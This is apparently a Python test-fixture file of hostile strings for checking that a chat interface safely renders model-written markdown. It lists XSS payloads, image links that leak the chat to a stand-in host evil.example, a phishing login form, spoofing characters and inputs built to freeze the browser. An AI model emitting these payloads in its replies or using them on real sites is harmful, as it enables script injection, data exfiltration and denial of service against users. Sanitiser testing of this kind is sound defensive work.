"""What a hostile or broken model may write. Each text, if the page believed it, would call `window.pwned` or leave."""

EVIL = "https://evil.example"
RUN = "window.pwned=1"

HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{EVIL}/leak.png">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<a href="javascript:{RUN}">click me</a>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f"<style>@import url({EVIL}/x.css); body{{display:none}}</style>",
    f'<div style="position:fixed;inset:0;z-index:9999;background:url({EVIL}/x)">cover</div>',
    f'<form action="{EVIL}"><input name=q><button>Log in</button></form>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<isindex type=image src=1 onerror={RUN}>",
    "<form id=app><input name=attributes><input name=getElementById></form>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\\<img src=x onerror={RUN}\\>",
    f"&lt;img src=x onerror={RUN}&gt;",
]

LINKS = [
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java\nscript:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](\x01javascript:{RUN})",
    f"[click](vbscript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"[click](data:image/svg+xml,<svg onload={RUN}>)",
    f"[click](file:///etc/passwd) [blob](blob:{EVIL}/1)",
    f"[click][x]\n\n[x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    "[out](/api/logout) [up](//evil.example/x) [here](#/chat/c1)",
    f'[quote]({EVIL}/"onmouseover={RUN})',
    f"[title]({EVIL} '\"><img src=x onerror={RUN}>')",
]

IMAGES = [
    f"![a]({EVIL}/leak?q=the+whole+chat)",
    "![a](//evil.example/leak)",
    "![a](/api/logout)",
    f"[![a]({EVIL}/a.png)]({EVIL}/b)",
    f"![a][r]\n\n[r]: {EVIL}/leak.gif",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQ9MT4=)",
    f'![x" onerror="{RUN}]({EVIL}/x)',
    f"![a](javascript:{RUN})",
]

CODE_AND_MATH = [
    f"```html\n<img src=x onerror={RUN}>\n```",
    f'```"><script>{RUN}</script>\ncode\n```',
    "```../../../../evil\ncode\n```",
    "```__proto__\ncode\n```",
    f"`<img src=x onerror={RUN}>`",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\includegraphics{{{EVIL}/x.png}}$ $\\url{{javascript:{RUN}}}$",
    "$\\htmlData{x=1}{y} \\htmlStyle{position:fixed}{z}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$\\boxed{1} \\fbox{2} \\fcolorbox{red}{blue}{3} \\pmb{4} \\colorbox{red}{5} \\color{red} 6 \\cancel{7}$",
    "$\\rule{1000000em}{1000000em}$",
    f'$"><img src=x onerror={RUN}>$',
    f"$$\n<script>{RUN}</script>\n$$",
    f"\\begin{{align}}<img src=x onerror={RUN}>\\end{{align}}",
    f'Note[^"><img]\n\n[^"><img]: <img src=x onerror={RUN}>',
    f"- [x] <img src=x onerror={RUN}>",
]

SHAPES = [
    "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n" + ("|" + "b|" * 400 + "\n") * 40,
    "| a |\n|---|\n" + "| row |\n" * 5000,
    "> " * 3000 + "deep",
    "- " * 3000 + "deep",
    "[" * 5000 + "](" * 5000,
    "*" * 20000,
    "`" * 20001,
    "a" * 100_000,
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
    "Z\u0351\u0350" * 3000,
    "\ud83d" + "x" + "\u0000\u0007\u001b[2J",
    "<!--" * 2000,
    "&" * 5000 + "&#x110000;&#0;",
]

TEXTS = [*HTML, *LINKS, *IMAGES, *CODE_AND_MATH, *SHAPES]


def _matrix(rows: int, columns: int) -> str:
    row = "&".join(str(i % 10) for i in range(columns))
    return "$$\\begin{matrix}" + "\\\\".join([row] * rows) + "\\end{matrix}$$\n\n"


BLOCKING = {
    "links in markdown code": "```markdown\n" + "[a](" * 4_000 + "\n```",
    "one long word in javascript": "```javascript\n" + "a" * 40_000 + "\n```",
    "one long word in java": "```java\n" + "a" * 40_000 + "\n```",
    "brackets in json": "```json\n" + "[" * 60_000 + "\n```",
    "a long json": "```json\n" + '{"key": [1, 2.5, "text", null]},\n' * 12_000 + "```",
    "unclosed inline formulas": "\\( " * 33_000,
    "unclosed displayed formulas": "\\[\n" * 10_000,
    "displayed formulas that end in a sentence": "\\[\n" * 10_000 + "\\] and so on",
    "combining marks": "a" + "\u0301" * 100_000,
    "combining marks in code": "```\na" + "\u0301" * 100_000 + "\n```",
    "large matrices": _matrix(90, 99) * 20,
    "matrices": _matrix(12, 60) * 40,
    "many formulas": "$x_1^2$ " * 4_000,
    "nested fractions": "$" + "\\frac{1}{" * 250 + "x" + "}" * 250 + "$",
    "a wide table": "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n" + ("|" + "b|" * 400 + "\n") * 100,
    "a long table": "| a | b |\n|---|---|\n" + "| row | *b* |\n" * 20_000,
    "emphasis": "*a* " * 50_000,
    "a long list": "- one\n" * 30_000,
    "nested lists": "- " * 20_000 + "deep",
    "nested quotes": "> " * 20_000 + "deep",
    "open brackets": "[" * 50_000 + "](" * 50_000,
    "addresses": "http://" * 20_000,
    "many paragraphs": "one\n\n" * 40_000,
    "many code blocks": "```py\nx = 1\n```\n\n" * 3_000,
    "one long word": "a" * 400_000,
    "backticks": "`" * 150_000,
    "link targets": "[\n" * 30_000,
    "footnotes in one another": "[^1]: " * 50_000,
    "footnotes": "[^a]: x\n" * 30_000,
    "marks of a footnote": "[^1]: x\n\n" + "[^1]" * 30_000,
    "footnotes that never end": "[^1]: x\n\n" + "[^" * 60_000,
    "tasks": "- [ ] a\n" * 30_000,
    "unclosed environments": "\\begin{align}\n" * 20_000,
    "environments in one another": "\\begin{align}\n" * 10_000 + "\\end{align}\n" * 10_000,
    "environments that end in a sentence": "\\begin{align} " * 10_000 + "\\end{align} " * 10_000 + "and so on",
    "east asian emphasis": "字**「" * 20_000 + "」**字" * 20_000,
}
"""What is dear to draw: each held up the tab, or could, for seconds."""
